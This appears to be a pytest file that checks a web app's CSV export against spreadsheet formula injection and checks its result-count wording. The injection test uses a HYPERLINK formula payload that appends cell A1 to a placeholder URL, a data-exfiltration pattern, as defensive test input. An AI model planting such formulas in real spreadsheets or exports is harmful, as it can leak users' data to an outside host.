"""CSV that runs nothing and loses nothing."""

import csv
from dataclasses import fields
from datetime import UTC, datetime
from decimal import Decimal
from io import StringIO

import pytest
from hypothesis import given
from hypothesis import strategies as st

from webapp.sheet_listing import how_many
from webapp.sheet_table import csv_of
from webapp.store.finding import Found
from webapp.store.sheets import Listed


def read(text: str) -> list[list[str]]:
    assert text.startswith("\ufeff")
    return list(csv.reader(StringIO(text.removeprefix("\ufeff"), newline="")))


# Characters named by OWASP's page "CSV Injection": = + - @ tab, carriage return; line feed and full-width ones too.
@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠", "  =", "\n@"])
def test_what_could_run_is_text(start: str) -> None:
    typed = f'{start}HYPERLINK("http://x/"&A1,"see")'
    ((cell,),) = read(csv_of(["Title"], [[typed]]))[1:]
    assert cell == f"'{typed}"


def test_numbers_stay_numbers() -> None:
    at = datetime(2026, 3, 14, 17, 30, tzinfo=UTC)
    (row,) = read(csv_of(["a"] * 5, [[-5, -4.25, Decimal("-4300.00"), None, at]]))[1:]
    assert row == ["-5", "-4.25", "-4300.00", "", "2026-03-14T17:30:00+00:00"]
    assert [float(cell) for cell in row[:3]] == [-5, -4.25, -4300]


def test_quotes_commas_and_lines_are_kept() -> None:
    typed = 'He said "no", then\nleft; Zürich, 金'
    assert read(csv_of(["Title", "b"], [[typed, "x"]]))[1:] == [[typed, "x"]]


@given(st.lists(st.text(st.characters(codec="utf-8", exclude_characters="\0")), min_size=1, max_size=4))
def test_any_text_comes_back_and_none_begins_a_formula(row: list[str]) -> None:
    (back,) = read(csv_of(["x"] * len(row), [row]))[1:]
    for was, now in zip(row, back, strict=True):
        assert now in (was, f"'{was}")
        assert not now.lstrip().startswith(("=", "+", "-", "@"))


LISTED = Listed(**dict.fromkeys(field.name for field in fields(Listed)))  # how many there are is all that counts


@pytest.mark.parametrize(
    ("found", "words"),
    [
        (Found((), 0, True, None, None, None), "0 sheets"),
        (Found((LISTED,), 1, True, 1, None, None), "1 sheet"),
        (Found((LISTED,) * 2, 5, True, 3, "before", "after"), "5 sheets, these are 3 to 4"),
        (Found((LISTED,) * 2, 1000, False, 1, None, "after"), "1000 or more sheets, these are 1 to 2"),
        # The last page of so many: nobody counted how far it is from the first.
        (Found((LISTED,) * 2, 1000, False, None, "before", None), "1000 or more sheets"),
    ],
)
def test_how_many_were_found_is_told_as_far_as_it_is_known(found: Found, words: str) -> None:
    assert how_many(found) == words
